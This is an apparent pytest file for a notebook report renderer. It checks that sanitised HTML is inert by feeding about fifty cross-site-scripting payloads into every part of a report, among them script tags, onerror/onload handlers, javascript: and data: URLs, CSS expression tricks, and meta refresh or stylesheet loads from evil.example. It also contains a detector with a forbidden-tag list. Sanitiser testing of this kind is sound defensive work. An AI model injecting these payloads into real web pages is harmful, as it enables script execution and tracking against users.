"""Nothing of a notebook's own HTML can run, load or leave its place, wherever it appears in a report."""

from __future__ import annotations

import base64
from html.parser import HTMLParser
from typing import Any

import pytest

from nbkube.report import Report, ReportEdge, ReportStep, render_report
from nbkube.report.cells import render_cells
from nbkube.report.sanitise import sanitise

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    '"><script>alert(1)</script>',
    "</pre></div></body></html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = alert(1) //",
    "<img/src=`x`onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 1x">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">go</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:u\\72l(//evil.example)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x onclick=alert(1)>x</x>",
    "<table background='javascript:alert(1)'><td>x</td></table>",
    "<p id=cookie name=body>x</p>",
]
FORBIDDEN = {
    "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "base",
    "link", "video", "audio", "source", "math", "template", "noscript", "animate", "foreignobject", "marquee", "use",
}  # fmt: skip


class Audit(HTMLParser):
    """Collects whatever in a document could act."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        address = "".join(value.split()).lower()
        if name.startswith("on") or name in ("srcset", "srcdoc", "formaction", "action", "background", "xlink:href"):
            self.found.append(f"{tag} {name}={value}")
        if name == "src" and not address.startswith("data:image/"):
            self.found.append(f"{tag} src={value}")
        if name == "href" and not address.startswith(("http://", "https://", "mailto:", "#")):
            self.found.append(f"{tag} href={value}")
        if name == "style" and any(part in address for part in ("url(", "expression", "position", "\\")):
            self.found.append(f"{tag} style={value}")
        if tag == "meta" and name == "http-equiv" and address != "content-security-policy":
            self.found.append(f"meta {value}")


def acts(html: str) -> list[str]:
    audit = Audit()
    audit.feed(html)
    audit.close()
    return audit.found


def outputs(payload: str) -> list[dict[str, Any]]:
    """One cell that carries the payload in every place an output has."""
    mimes = ["text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png", "image/jpeg"]
    mimes += ["application/javascript", "text/javascript", "application/vnd.jupyter.widget-view+json", payload]
    shown: list[dict[str, Any]] = [
        {"output_type": kind, "data": {mime: payload}, "metadata": {mime: {"isolated": True, "alt": payload}}}
        for mime in mimes
        for kind in ("display_data", "execute_result")
    ]
    shown += [{"output_type": "stream", "name": name, "text": payload} for name in ("stdout", "stderr", payload)]
    shown.append({"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]})
    shown.append({"output_type": payload, "data": {"text/html": payload}})
    return [{"source": payload, "execution_count": payload, "metadata": {"tags": [payload]}, "outputs": shown}]


def test_the_audit_sees_what_it_is_made_for() -> None:
    seen = [payload for payload in PAYLOADS if acts(payload)]
    assert len(seen) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitised_html_is_inert(payload: str) -> None:
    assert acts(sanitise(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_acts_in_any_place_of_a_report(payload: str) -> None:
    step = ReportStep(
        payload, payload, 1.0, 5, after=(payload,), cells=tuple(outputs(payload)), log=payload, failure=payload
    )
    other = ReportStep(payload + "2", "Succeeded", after=(payload,), log=payload)
    report = Report(
        payload,
        payload,
        payload,
        parameters={payload: payload, "deep": {payload: [payload]}},
        metrics={payload: payload},
        steps=(step, other),
        edges=(ReportEdge(payload, payload + "2", (payload, payload)),),
        experiment=payload,
        notebook=payload,
    )
    page = render_report(report)
    assert acts(page) == []
    assert page.count("<body>") == page.count("</body>") == page.count("</html>") == 1


def test_harmless_html_is_kept() -> None:
    html = (
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>'
        '<tbody><tr><th>0</th><td>1</td></tr></tbody></table><p><a href="https://example.org/x?y=1#z">link</a></p>'
    )
    kept = sanitise(html)
    assert "text-align: right" in kept
    assert '<a href="https://example.org/x?y=1#z">link</a>' in kept
    assert kept.count("<td>") == 1


def test_style_sheets_leave_no_text_behind() -> None:
    assert sanitise("<style scoped>.dataframe { color: red }</style><b>x</b>") == "<b>x</b>"


def test_an_output_cannot_close_what_it_is_put_into() -> None:
    body = render_cells([{"source": "1", "outputs": [
        {"output_type": "display_data", "data": {"text/html": "</div></div></div></div>after"}},
        {"output_type": "stream", "name": "stdout", "text": "next"},
    ]}])  # fmt: skip
    depth = lowest = 0
    for piece in body.split("<")[1:]:
        depth += piece.startswith("div") - piece.startswith("/div")
        lowest = min(lowest, depth)
        if "next" in piece:
            assert depth >= 3
    assert depth == 0
    assert lowest == 0


def test_pictures_and_colours_are_kept() -> None:
    png = base64.b64encode(b"\x89PNG....").decode()
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>"
    body = render_cells([{"source": "plot()", "outputs": [
        {"output_type": "display_data", "data": {"image/png": png, "text/plain": "<Figure>"}},
        {"output_type": "display_data", "data": {"image/svg+xml": svg}},
        {"output_type": "stream", "name": "stdout", "text": "\x1b[31mred\x1b[0m"},
    ]}])  # fmt: skip
    assert f'src="data:image/png;base64,{png}"' in body
    assert "data:image/svg+xml;base64," in body
    assert '<span class="ansi-red-fg">red</span>' in body
    assert "<svg" not in body


def test_long_outputs_lose_their_middle() -> None:
    body = render_cells(
        [{"source": "x", "outputs": [{"output_type": "stream", "name": "stdout", "text": "a" * 900_000}]}]
    )
    assert "700,000 characters left out" in body
    assert len(body) < 250_000
